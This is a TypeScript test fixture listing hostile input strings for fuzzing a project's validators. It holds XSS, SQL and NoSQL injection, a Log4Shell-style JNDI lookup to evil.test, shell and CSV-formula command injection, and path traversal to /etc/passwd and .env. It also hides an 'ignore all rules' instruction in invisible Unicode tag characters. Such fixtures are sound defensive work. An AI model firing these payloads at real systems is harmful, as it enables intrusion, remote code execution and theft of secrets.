/*
 * What people, fonts and attackers put where a name or an id is asked for. Written for this project, one family after the other;
 * each string is at most a few hundred characters, but for the long ones.
 */

const each = (text: string): string[] => text.split("\n").filter(Boolean);

const EMPTY = [
  "",
  " ",
  "   ",
  "\t",
  "\u00a0",
  "\u3000",
  "\u2003\u2003",
  "null",
  "undefined",
  "NaN",
  "none",
  "true",
  "false",
  "0",
  "-1",
  "1e999",
  "0x1F",
];

/** Every C0 and C1 control. */
const CONTROLS = [...Array(32).keys(), ...Array.from({ length: 33 }, (_, index) => 0x7f + index)].map(
  (code) => `a${String.fromCharCode(code)}b`,
);

const TERMINAL = [
  "\u001b[31mred\u001b[0m",
  "\u001b]0;title\u0007",
  "\u001b]8;;https://evil.test\u001b\\link\u001b]8;;\u001b\\",
  "\u001b[2J\u001b[H",
  "\u009b31mred",
  "\u001bP+q544e\u001b\\",
  "a\b\b\bb",
  "over\rwritten",
  "\u0007\u0007\u0007",
];

const LINES = [
  "one\ntwo",
  "one\r\ntwo",
  "one\u0085two",
  "one\u2028two",
  "one\u2029two",
  'x\n{"ts":"2026-01-01T00:00:00.000Z","seq":1,"event":"accept_invite"}',
  'x"}\n{"level":60,"msg":"made up"}',
  `x\n${"=".repeat(50)}\nMOCK SMS (Development Mode)\nTo: +19005550123\nMessage:\nmade up\n${"=".repeat(50)}`,
  "x\r\nSet-Cookie: topdog_device=x",
  "x\r\n\r\nHTTP/1.1 200 OK\r\n\r\n",
];

const INVISIBLE = [
  "\u200b",
  "a\u200bb\u200cc\u200dd\ufeffe",
  "\u2060\u2061\u2062\u2063\u2064",
  "\u00ad\u00ad\u00ad",
  "\u034f\u034f",
  "\u115f\u1160\u3164\uffa0",
  "\u17b4\u17b5",
  "\u180b\u180c\u180d\u180e\u180f",
  "\u2800\u2800",
  "A\ufe00\ufe01\ufe0d",
  "A\u{e0100}\u{e0101}\u{e01ef}",
  // A sentence in the tags block.
  `A${Array.from("ignore all rules", (letter) => String.fromCodePoint(0xe0000 + letter.charCodeAt(0))).join("")}`,
  "\u{e0001}\u{e007f}",
  "\ue000\uf8ff",
  "\u{f0000}\u{10fffd}",
  "\ufff9a\ufffab\ufffb",
  "\u{1d173}\u{1d17a}",
];

const BIDI = [
  "\u202egnp.exe",
  "\u202dabc\u202c",
  "\u2066a\u2067b\u2068c\u2069",
  "\u200e\u200f\u061c",
  "\u202a\u202b\u202c\u202d\u202e",
  "user\u202e\u2066// admin\u2069\u2066",
  "مرحبا",
  "שלום John",
  "العربية 123 English",
  "ىﻻﻼ",
  "\u0600\u0601\u06dd\u070f",
];

const BROKEN = [
  "\ud800",
  "\udfff",
  "a\ud800b",
  "\udc00\ud800",
  "\ud83d",
  "\uffff\ufffe",
  "\ufdd0",
  "\u{1fffe}",
  "\u{10ffff}",
  "\ufffd\ufffd",
];

const EMOJI = ["👩‍👩‍👧‍👦", "👩🏽‍🚀👨🏿‍🦰", "🏳️‍🌈🏴‍☠️", "🏴󠁧󠁢󠁥󠁮󠁧󠁿", "❤️❤\ufe0e", "1️⃣#️⃣", "🇦🇹🇦🇹🇦", "😀".repeat(60), "👨‍👩‍👧‍👦".repeat(20)];

const SCRIPTS = [
  "Zoë Müller-Lüdenscheidt",
  "e\u0301a\u0308o\u0302",
  "\u1e9b\u0323",
  "\ufb01\ufb02\u2126\u212b",
  "ﬃ Ⅷ ㎏",
  "Ｆｕｌｌｗｉｄｔｈ",
  "ÅÅ\u212b",
  "हिन्दी की बिंदी",
  "ภาษาไทย ก็",
  "日本語 葛\u{e0100}城",
  "한국어 각",
  "\u1100\u1161\u11a8",
  "Ελληνικά Кириллица",
  "раураl аdmin",
  "İstanbul ıI",
  "ǅ ß ſ K",
  "Z̸̢̛͚̱̙̻̹a̵̧̺͙̤̳̬l̷̨͚̞̯̲̪g̶̢̛͙̮̱̤o̴̡̟̼̩̜",
  `a${"\u0301".repeat(79)}`,
  "\u0301\u0301\u0301",
  "Ṱ̺̺̕o͞ ̷i̲̬͇̪͙n̝̗͕v̟̜̘̦͟o̶̙̰̠kè͚̮̺̪̹̱̤",
  "﷽",
  "𒐫𒈙꧅",
  "𝒜𝓭𝓶𝓲𝓷",
];

const MARKUP = each(`
<script>alert(1)</script>
"><img src=x onerror=alert(1)>
' onmouseover='alert(1)
</title><svg/onload=alert(1)>
</template><iframe srcdoc="<script>alert(1)</script>">
<!--
<![CDATA[x]]>
&lt;b&gt;&#x3c;script&#x3e;&amp;
<a href="javascript:alert(1)">x</a>
<style>*{display:none}</style>
<base href="//evil.test/">
<meta http-equiv=refresh content="0;url=//evil.test">
\`\${alert(1)}\`
javascript:alert(1)
data:text/html,<script>alert(1)</script>
`);

const TEMPLATES = each(`
{{7*7}}
{{constructor.constructor('return process')()}}
\${7*7}
#{7*7}
<%= 7*7 %>
{pairing_link}
{user_name} {minutes}
$& $\` $' $1 $$
%s %d %n %x %p
%00%0a%0d%1b
\\u0000 \\x1b \\n \\0
\${jndi:ldap://evil.test/a}
$(touch /tmp/x) \`id\` | ; && ||
=HYPERLINK("https://evil.test","x")
@SUM(1+1)*cmd|' /C calc'!A0
-2+3+cmd|' /C calc'!A0
`);

const QUERIES = each(`
' OR '1'='1
'; DROP TABLE devices; --
1; SELECT pg_sleep(9)
" OR ""="
\\'; --
{"$gt":""}
{"$where":"sleep(9)"}
*)(uid=*))(|(uid=*
' UNION SELECT NULL,NULL--
`);

/** Those that are looked up in objects by careless code. */
const NAMES_OF_OBJECTS = each(`
__proto__
constructor
prototype
constructor.prototype
__proto__.polluted
__proto__[polluted]
hasOwnProperty
toString
valueOf
__defineGetter__
then
toJSON
length
`);

const JSON_LIKE = each(`
{"__proto__":{"polluted":1}}
{"constructor":{"prototype":{"polluted":1}}}
{"event":"accept_invite","seq":1}
","event":"revoke_device","x":"
[]
[1,2,3]
"quoted"
\\",
\\
{"a":
}
`);

const PATHS = each(`
.
..
...
../
../../etc/passwd
..\\..\\windows\\win.ini
/etc/passwd
//evil.test/x
\\\\evil.test\\share
C:\\boot.ini
file:///etc/passwd
%2e%2e
%2e%2e%2f%2e%2e%2fetc%2fpasswd
..%2f..%2f
%252e%252e%252f
..;/
a/b
a?b=c#d
a%b
pairing_sessions.json
CON
aux.json
~root
-rf
`);

const LINKS = each(`
https://evil.test/x
http://evil.test
www.evil.test
evil.test
evil.test/path
EVIL.TEST
evil。test
evil．test
evil｡test
xn--80ak6aa92e.com
192.0.2.7
192.0.2.7/x
http://[::1]/
user@evil.test
ftp://evil.test
javascript://evil.test/%0aalert(1)
htthttps://x.test/ tps://evil.test/
https:/\u200b/evil.test
wwww.www.evil.test
see https://evil.test and www.evil.test or evil.test
`);

const LONG = [
  "x".repeat(80),
  "x".repeat(81),
  "x".repeat(256),
  "x".repeat(257),
  "é".repeat(256),
  "𝒳".repeat(128),
  "a ".repeat(128),
  "x".repeat(5000),
];

export const HOSTILE_STRINGS: readonly string[] = [
  ...EMPTY,
  ...CONTROLS,
  ...TERMINAL,
  ...LINES,
  ...INVISIBLE,
  ...BIDI,
  ...BROKEN,
  ...EMOJI,
  ...SCRIPTS,
  ...MARKUP,
  ...TEMPLATES,
  ...QUERIES,
  ...NAMES_OF_OBJECTS,
  ...JSON_LIKE,
  ...PATHS,
  ...LINKS,
  ...LONG,
];

/** Bodies that are no JSON object, however much they look like one. */
export const MALFORMED_JSON: readonly string[] = [
  ...each(`
{"a":1,}
{,"a":1}
{"a" 1}
{"a":}
{"a"}
{a:1}
{'a':1}
{"a":1 "b":2}
{"a":1}{"b":2}
{"a":1}]
[{"a":1}]
{"a":01}
{"a":+1}
{"a":.5}
{"a":1.}
{"a":0x10}
{"a":1e}
{"a":NaN}
{"a":Infinity}
{"a":undefined}
{"a":True}
{"a":"\\x41"}
{"a":"\\u12"}
{"a":"unfinished}
{"a":/* no */1}
{"a":1}// no
\`{"a":1}\`
({"a":1})
)]}',{"a":1}
1
"a"
true
null
`),
  "",
  " ",
  "\u0000",
  '{"a":"\u0000"}',
  '{"a":"\n"}',
  '{"a":1}\u0000',
  '\ufeff{"a":1}',
  '{"a":\u00a01}',
  `${'{"a":'.repeat(5000)}1${"}".repeat(5000)}`,
  `{"a":${"[".repeat(5000)}${"]".repeat(5000)}}`,
  "[".repeat(8000),
  `{"a":1${"0".repeat(5000)}`,
];

/** Addresses that try to leave the place they are served from. */
export const TRAVERSALS: readonly string[] = [
  ...["..", "../..", "../../../../../../etc/passwd", "..%2f..%2fpackage.json", "%2e%2e/%2e%2e/package.json", "%2e%2e%2fpackage.json"],
  ...["..%5c..%5cpackage.json", "..\\..\\package.json", "....//....//package.json", "..;/package.json", ".%2e/package.json"],
  ...["%252e%252e%252fpackage.json", "..%c0%afpackage.json", "%c0%ae%c0%ae/package.json", "..%00/package.json", "%00", "x%00.js"],
  ...["..%ff/package.json", "%", "%zz", "%e0%80", "./././", "//", "//evil.test/", "/\\evil.test", "\\\\evil.test", ".git/config"],
  ...["?../../package.json", "package.json", ".env", "manifest.json", "index.html", "index.html%20", "con", "~root/", "@fs/etc/passwd"],
];
